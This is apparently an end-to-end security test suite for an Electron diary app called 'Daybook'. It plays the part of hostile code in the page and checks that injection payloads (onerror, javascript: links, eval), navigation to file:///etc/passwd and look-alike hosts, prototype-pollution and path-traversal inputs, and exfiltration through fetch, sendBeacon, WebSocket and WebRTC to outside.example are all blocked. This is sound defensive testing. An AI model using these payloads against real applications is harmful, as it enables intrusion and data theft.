import { CALLS, EVENTS } from '../../src/shared/ipc/channels.ts'
import { allPortions } from '../support/allRecords.ts'
import { networkAttempts, textsInHeap, textsInPage } from '../support/e2eAttack.ts'
import { createLog, goTo, lock, PASSPHRASE, passphraseField } from '../support/e2eSteps.ts'
import { expect, launch, test } from './fixtures.ts'

// The page is taken to be in an attacker's hands: each spec tries, from inside, what hostile code would.

declare global {
  interface Window {
    ranAs?: string[]
    stayed?: boolean
  }
}

const camel = (channel: string) => channel.replace(/\.(\w)/, (_all, first: string) => first.toUpperCase())
const capital = (name: string) => name.charAt(0).toUpperCase() + name.slice(1)

test('the page has the closed list of functions and nothing of Node', async ({ app }) => {
  const seen = await app.page.evaluate(() => {
    const bridge = Object.entries(window.daybook)
    const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', 'electron', 'ipcRenderer']
    const before = window.daybook
    const changes = [
      () => Object.assign(window, { daybook: {} }),
      () => Object.assign(window.daybook, { logUnlock: () => 'stolen' }),
      () => Object.assign(window.daybook, { invoke: () => 'added' }),
      () => Reflect.deleteProperty(window.daybook, 'logLock'),
      () => Object.defineProperty(window, 'daybook', { value: {} }),
    ]
    for (const change of changes) {
      try {
        change()
      } catch {
        // Refused loudly: as good as refused silently.
      }
    }
    return {
      names: bridge.map(([name]) => name).sort(),
      types: [...new Set(bridge.map(([, value]) => typeof value))],
      frozen: Object.isFrozen(window.daybook),
      same: window.daybook === before && Object.keys(window.daybook).length === bridge.length,
      foreign: names.filter((name) => name in globalThis),
      isolated: isSecureContext && crossOriginIsolated,
    }
  })
  expect(seen).toEqual({
    names: [...CALLS.map(camel), ...EVENTS.map((name) => `on${capital(camel(name))}`)].sort(),
    types: ['function'],
    frozen: true,
    same: true,
    foreign: [],
    isolated: true,
  })
})

test('the content policy is a header and stops inline code, eval and foreign styles', async ({ app }) => {
  const policy = await app.page.evaluate(async () =>
    (await fetch('./index.html')).headers.get('content-security-policy'),
  )
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("script-src 'self'")
  expect(policy).not.toMatch(/unsafe|\*|https?:|strict-dynamic|nonce/)

  const found = await app.page.evaluate(async () => {
    window.ranAs = []
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
    const add = (html: string) => {
      const box = document.createElement('div')
      box.innerHTML = html
      document.body.append(box)
      return box
    }
    const script = document.createElement('script')
    script.textContent = 'window.ranAs.push("inline script")'
    document.head.append(script)
    const data = document.createElement('script')
    data.src = 'data:text/javascript,window.ranAs.push("data script")'
    document.head.append(data)
    const blob = document.createElement('script')
    blob.src = URL.createObjectURL(new Blob(['window.ranAs.push("blob script")']))
    document.head.append(blob)
    add('<button onclick="window.ranAs.push(\'attribute\')">x</button>').querySelector('button')?.click()
    add('<img src="data:," onerror="window.ranAs.push(\'onerror\')">')
    add('<iframe srcdoc="<script>parent.ranAs.push(1)</script>"></iframe>')
    const link = document.createElement('a')
    link.href = 'javascript:window.ranAs.push("javascript address")'
    document.body.append(link)
    link.click()
    // By a timer: what a debugger itself evaluates is exempt from the policy.
    const evaluated = await new Promise<string>((resolve) => {
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the policy must refuse it
          resolve(`ran: ${globalThis.eval('1 + 1')}`)
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'refused')
        }
      })
    })
    const made = await new Promise<string>((resolve) => {
      setTimeout(() => {
        try {
          resolve(`ran: ${new Function('return 2')()}`)
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'refused')
        }
      })
    })
    const styled = add('<p style="position: fixed; color: rgb(1, 2, 3)">styled</p>').querySelector('p')
    const sheet = document.createElement('style')
    sheet.textContent = 'body { outline: 7px solid rgb(1, 2, 3) !important }'
    document.head.append(sheet)
    const outline = getComputedStyle(document.body).outlineWidth
    // Violations are told by tasks of their own, in order: the last one stands for all before it.
    while (!violated.includes('style-src-attr') && !violated.includes('style-src-elem'))
      await new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', resolve, { once: true }),
      )
    return {
      ran: window.ranAs,
      evaluated,
      made,
      colour: styled === null ? '' : getComputedStyle(styled).color,
      outline,
      frames: document.querySelectorAll('iframe')[0]?.contentDocument?.body?.textContent ?? '',
      violated: [...new Set(violated)].sort(),
    }
  })
  expect(found).toMatchObject({ ran: [], evaluated: 'EvalError', made: 'EvalError', frames: '' })
  expect(found.colour).not.toBe('rgb(1, 2, 3)')
  expect(found.outline).not.toBe('7px')
  expect(found.violated).toEqual(
    expect.arrayContaining(['script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']),
  )
})

test('no way leads out of the page: windows, links, forms, look-alike addresses', async ({ app }) => {
  const { page } = app
  await app.evaluate(({ shell }) => {
    const opened: string[] = []
    Object.assign(globalThis, { openedOutside: opened })
    shell.openExternal = async (url) => void opened.push(url)
    shell.openPath = async (file) => String(opened.push(file))
  })
  const addresses = [
    'https://outside.example/',
    'http://192.0.2.7/',
    'https://daybook.app.invalid.outside.example/index.html',
    'https://daybook@outside.example/index.html',
    'app://daybook.outside.example/index.html',
    'app://daybook@outside/index.html',
    'app://daybook/../../etc/passwd',
    'file:///etc/passwd',
    'data:text/html,<h1>gone</h1>',
    'mailto:someone@outside.example',
  ]
  for (const address of addresses) {
    await page.evaluate((url) => {
      window.stayed = true
      const opened = window.open(url)
      if (opened !== null && !opened.closed) throw new Error(`opened ${url}`)
      for (const target of ['_blank', '_self', '_top', '_parent']) {
        const link = document.createElement('a')
        link.href = url
        link.target = target
        document.body.append(link)
        link.click()
        link.remove()
      }
      const form = document.createElement('form')
      form.action = url
      form.method = 'post'
      document.body.append(form)
      form.submit()
      form.remove()
      try {
        location.assign(url)
      } catch {
        // A local file is refused at once.
      }
    }, address)
    // An answer from main stands for "whatever was on its way has arrived".
    const state = await page.evaluate(() => window.daybook.logState({}))
    expect(state.ok, address).toBe(true)
    expect(await page.evaluate(() => window.stayed), address).toBe(true)
  }
  await expect(page.getByRole('heading', { name: 'Daybook' })).toBeVisible()
  expect(page.url()).toMatch(/index\.html$/)
  await expect.poll(() => app.electron.windows().length).toBe(1)
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  expect(await app.evaluate(() => Reflect.get(globalThis, 'openedOutside'))).toEqual([])
  const attempts = await networkAttempts(app)
  expect(attempts.filter(({ cancelledByApp }) => !cancelledByApp)).toEqual([])
  if (app.kind === 'host') expect(attempts.map(({ type }) => type)).toContain('will-navigate')
})

test('an empty page put in its place is answered nothing', async ({ app }) => {
  const { page } = app
  // Electron asks nobody about about:blank; what counts is that main does not take it for the application.
  await page.evaluate(() => location.assign('about:blank'))
  await expect.poll(() => page.url()).toBe('about:blank')
  const answer = await page.evaluate(async () =>
    'daybook' in window ? JSON.stringify(await window.daybook.logState({})) : 'no bridge',
  )
  expect(answer).toMatch(/^no bridge$|"ipc\/untrusted-sender"/)
})

test('nothing the page loads or sends reaches the outside', async ({ app }) => {
  const outcome = await app.page.evaluate(async () => {
    const outside = 'https://outside.example/x'
    const refused: string[] = []
    const blocked: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))
    const attempt = async (name: string, act: () => Promise<unknown>) => {
      await act().then(
        () => undefined,
        () => refused.push(name),
      )
    }
    await attempt('fetch', () => fetch(outside, { mode: 'no-cors' }))
    await attempt('post', () => fetch(outside, { method: 'POST', body: 'secret', keepalive: true }))
    await attempt(
      'xhr',
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.onload = resolve
          request.onerror = reject
          request.open('GET', outside)
          request.send()
        }),
    )
    const loads = (element: HTMLImageElement | HTMLScriptElement | HTMLLinkElement | HTMLVideoElement) =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', resolve)
        element.addEventListener('loadeddata', resolve)
        element.addEventListener('error', reject)
        if ('rel' in element) element.href = outside
        else element.src = outside
        document.head.append(element)
      })
    await attempt('image', () => loads(new Image()))
    await attempt('script', () => loads(document.createElement('script')))
    await attempt('video', () => loads(document.createElement('video')))
    const sheet = document.createElement('link')
    sheet.rel = 'stylesheet'
    await attempt('stylesheet', () => loads(sheet))
    await attempt('font', () => new FontFace('outside', `url(${outside})`).load())
    await attempt(
      'socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://outside.example/x')
          socket.onopen = resolve
          socket.onerror = reject
        }),
    )
    await attempt(
      'events',
      () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(outside)
          source.onopen = resolve
          source.onerror = reject
        }),
    )
    await attempt(
      'worker',
      () =>
        new Promise((resolve, reject) => {
          const code = `fetch('${outside}').then(() => postMessage(1))`
          const worker = new Worker(URL.createObjectURL(new Blob([code])))
          worker.onmessage = resolve
          worker.onerror = reject
        }),
    )
    await attempt('module', () => import(/* @vite-ignore */ outside))
    await attempt('service worker', () => navigator.serviceWorker.register('./sw.js'))
    navigator.sendBeacon(outside, 'secret')
    document.body.style.backgroundImage = `url(${outside})`
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'icon']) {
      const link = document.createElement('link')
      link.rel = rel
      link.href = outside
      if (rel === 'preload') link.as = 'image'
      document.head.append(link)
    }
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] })
    connection.createDataChannel('probe')
    const candidates: string[] = []
    const gathered = new Promise<void>((resolve) => {
      connection.onicecandidate = ({ candidate }) =>
        candidate ? candidates.push(candidate.candidate) : resolve()
    })
    await connection.setLocalDescription()
    await gathered
    connection.close()
    await window.daybook.logState({})
    return { refused, candidates, blocked: [...new Set(blocked)] }
  })
  expect(outcome.refused).toEqual([
    'fetch',
    'post',
    'xhr',
    'image',
    'script',
    'video',
    'stylesheet',
    'font',
    'socket',
    'events',
    'worker',
    'module',
    'service worker',
  ])
  expect(outcome.candidates).toEqual([])
  expect(outcome.blocked).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'worker-src']))
  const attempts = await networkAttempts(app)
  expect(attempts.filter(({ cancelledByApp }) => !cancelledByApp)).toEqual([])
})

test('every permission is denied', async ({ app }) => {
  const answers = await app.page.evaluate(async () => {
    const state = async (name: string) =>
      navigator.permissions.query({ name: name as PermissionName }).then(
        (status) => status.state,
        () => 'unknown to this browser',
      )
    const refused = async (act: () => Promise<unknown>) =>
      act().then(
        () => 'granted',
        () => 'refused',
      )
    return {
      notifications: await Notification.requestPermission(),
      geolocation: await state('geolocation'),
      camera: await state('camera'),
      microphone: await state('microphone'),
      clipboardRead: await state('clipboard-read'),
      position: await refused(
        () =>
          new Promise((resolve, reject) => {
            navigator.geolocation.getCurrentPosition(resolve, reject)
          }),
      ),
      video: await refused(() => navigator.mediaDevices.getUserMedia({ video: true })),
      audio: await refused(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await refused(() => navigator.mediaDevices.getDisplayMedia()),
      clipboard: await refused(() => navigator.clipboard.readText()),
    }
  })
  expect(answers).toEqual({
    notifications: 'denied',
    geolocation: 'denied',
    camera: 'denied',
    microphone: 'denied',
    clipboardRead: 'denied',
    position: 'refused',
    video: 'refused',
    audio: 'refused',
    screen: 'refused',
    clipboard: 'refused',
  })
})

test('what does not fit the contract is refused, on every channel', async ({ app, userData }) => {
  await createLog(app, { folder: userData })
  const names = CALLS.map(camel)
  const codes = await app.page.evaluate(async (calls) => {
    const deep: Record<string, unknown> = {}
    let level = deep
    for (let depth = 0; depth < 200; depth += 1) {
      const inner: Record<string, unknown> = {}
      level.a = inner
      level = inner
    }
    const wrong = [
      undefined,
      null,
      'text',
      7,
      [],
      { unexpected: 1 },
      JSON.parse('{"__proto__": {"phase": "open"}, "token": "../../x"}'),
      { passphrase: 'x'.repeat(1_000_000) },
      { kind: 'evidence', id: null, fields: {} },
      { kind: '__proto__', id: '../x', fields: deep },
      { token: '0'.repeat(31), forms: ['pdf', 'json'] },
    ]
    const answers: string[] = []
    const bridge: Readonly<Record<string, unknown>> = { ...window.daybook }
    for (const name of calls) {
      const call = bridge[name]
      if (typeof call !== 'function') throw new Error(`no ${name}`)
      for (const [at, input] of wrong.entries()) {
        const reply = await call(input).catch((error: unknown) => ({ thrown: String(error) }))
        const code = reply?.ok === false ? reply.error.code : JSON.stringify(reply)
        if (code !== 'ipc/invalid-input') answers.push(`${name} ${at}: ${code}`)
      }
    }
    return answers
  }, names)
  expect(codes).toEqual([])
  const still = await app.page.evaluate(() => window.daybook.logState({}))
  expect(still).toMatchObject({ ok: true, value: { phase: 'open', canUndo: false } })
})

test('after locking nothing can be asked for, and the page holds no record', async ({ app, userData }) => {
  const { page } = app
  await createLog(app, { folder: userData, demo: true })
  const texts = (await allPortions(page)).flatMap(({ incidents, claims, sources }) => [
    ...Object.values(incidents ?? {}).map(({ title }) => title),
    ...Object.values(claims ?? {}).map(({ statement }) => statement),
    ...Object.values(sources ?? {}).map(({ name }) => name),
  ])
  expect(texts.length).toBeGreaterThan(100)
  // A search, an open form with something typed, a visit to the board: all of it shows records.
  await page.getByRole('searchbox').fill('Grozny')
  await goTo(page, 'Claims board')
  await goTo(page, 'Incidents')
  await page.getByRole('grid').getByRole('gridcell').first().dblclick()
  await page.getByRole('textbox', { name: 'Summary' }).fill('half-typed Umbrella-Quartz')
  expect(await textsInPage(app, ['Grozny', 'half-typed Umbrella-Quartz'])).toHaveLength(2)

  await lock(page)
  expect(await textsInPage(app, [...texts, 'Grozny', 'Umbrella-Quartz', PASSPHRASE])).toEqual([])
  const codes = await page.evaluate(async () => {
    const id = '0'.repeat(20)
    const token = '0'.repeat(32)
    const when = '2017-04-01'
    const none = { incidents: [], claims: [], contacts: [], actions: [] }
    const { daybook } = window
    const replies = await Promise.all([
      daybook.logPage({ cursor: null }),
      daybook.recordsWhole({ kind: 'incidents', ids: [id] }),
      daybook.itemsAlike({ id }),
      daybook.recordsSave({ kind: 'incidents', id: null, fields: { title: 'x', when } }),
      daybook.recordsDelete({ kind: 'incidents', ids: [id] }),
      daybook.recordsRestore({ id }),
      daybook.historyUndo({}),
      daybook.historyRedo({}),
      daybook.claimsAssess({
        id,
        status: 'false',
        credibility: null,
        standardMet: null,
        reason: 'x',
        when,
      }),
      daybook.importChoose({}),
      daybook.importChooseMapping({ token }),
      daybook.importSetOptions({ token, confidentiality: 'RED', dateOrder: null }),
      daybook.importApply({ token }),
      daybook.briefPreview({ profile: 'public', language: 'en', title: '', asOf: when, ...none }),
      daybook.briefWrite({ token, forms: ['pdf', 'json'] }),
    ])
    return replies.map((reply) => (reply.ok ? 'answered' : reply.error.code))
  })
  expect([...new Set(codes)]).toEqual(['log/not-open'])
})

test('after locking the page’s memory holds no record', async ({ app, userData }) => {
  const { page } = app
  await createLog(app, { folder: userData })
  await page.keyboard.press('n')
  const title = 'Marten-Obelisk is seen at the ferry of Tavrignolo'
  await page.getByRole('textbox', { name: 'Title, in one sentence' }).fill(title)
  await page.getByRole('textbox', { name: 'When' }).fill('2017')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('gridcell', { name: title })).toBeVisible()
  expect(await textsInHeap(app, [title])).toEqual([title])
  await lock(page)
  await expect.poll(() => textsInHeap(app, [title, 'Tavrignolo'])).toEqual([])
})

test('a second start gives way, and the first goes on', async ({ app, userData, appEntry }) => {
  await createLog(app, { folder: userData })
  await expect(launch({ userData, ...(appEntry === undefined ? {} : { entry: appEntry }) })).rejects.toThrow()
  await lock(app.page)
  await expect(passphraseField(app.page)).toBeVisible()
})

test('nothing is shown while another window is in front, where that was chosen', async ({
  app,
  userData,
  shot,
}) => {
  const { page } = app
  await createLog(app, { folder: userData, demo: true })
  await page.getByRole('gridcell').first().click()
  const cover = page.getByText('Hidden while another window is in front.')
  const tell = (name: 'blur' | 'focus') =>
    page.evaluate((event) => window.dispatchEvent(new Event(event)), name)
  await tell('blur')
  await expect(cover).toHaveCount(0)
  await tell('focus')
  await goTo(page, 'Settings')
  await page.getByText('Show nothing while another window is in front').click()
  await shot('settings-sight')
  await page.keyboard.press('Control+1')
  const cell = page.getByRole('gridcell').first()
  await cell.click()
  await tell('blur')
  // What lies at the middle of the window, and in its corners, is the cover.
  await expect(cover).toBeVisible()
  const covered = await page.evaluate(() =>
    [0.01, 0.5, 0.99].flatMap((x) =>
      [0.01, 0.5, 0.99].map((y) => document.elementFromPoint(x * innerWidth, y * innerHeight)?.className),
    ),
  )
  expect(new Set(covered)).toEqual(new Set(['background-cover']))
  await shot('background-cover')
  await tell('focus')
  await expect(cover).toHaveCount(0)
  await expect(cell).toBeFocused()
})
